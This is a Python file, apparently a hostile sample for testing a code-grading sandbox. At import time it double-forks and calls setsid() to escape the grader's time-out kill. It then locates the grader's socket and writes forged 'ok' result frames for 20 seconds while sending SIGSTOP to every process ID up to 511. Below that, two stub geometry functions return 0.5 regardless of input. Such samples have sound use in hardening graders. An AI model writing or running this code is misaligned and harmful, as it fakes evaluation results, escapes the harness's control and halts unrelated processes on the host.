"""Hostile: leave a daemon behind.

A double fork with setsid() leaves the process group the grader kills on a time-out; the
daemon keeps a copy of the socket (so the grader never sees the end of the file when the
process it knows about dies) and spends 20 s forging replies and signalling everything it can.
Only a PID namespace torn down with its first process (or a cgroup) gets rid of it.
"""

import json
import os
import signal
import stat
import struct
import time


def _grader_socket():
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            continue
    return None


def _reply_frame(value):
    tree = {"$": "dict", "v": [["ok", value], ["mutated", []], ["output", ""],
                               ["forbidden", []]]}
    header = json.dumps({"v": tree, "n": []}, separators=(",", ":")).encode()
    payload = struct.pack("<I", len(header)) + header
    return struct.pack("<Q", len(payload)) + payload


def _daemon():
    fd = _grader_socket()
    end = time.monotonic() + 20
    me = os.getpid()
    while time.monotonic() < end:
        for pid in range(2, 512):
            if pid != me:
                try:
                    os.kill(pid, signal.SIGSTOP)
                except OSError:
                    pass
        if fd is not None:
            try:
                os.write(fd, _reply_frame("forged by the daemon"))
            except OSError:
                fd = None
        time.sleep(0.05)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _daemon()
        finally:
            os._exit(0)
    os._exit(0)
time.sleep(0.1)


def conv_output_size(size, kernel_size, padding=0, stride=1):
    return 0.5


def same_padding(kernel_size):
    return 0.5
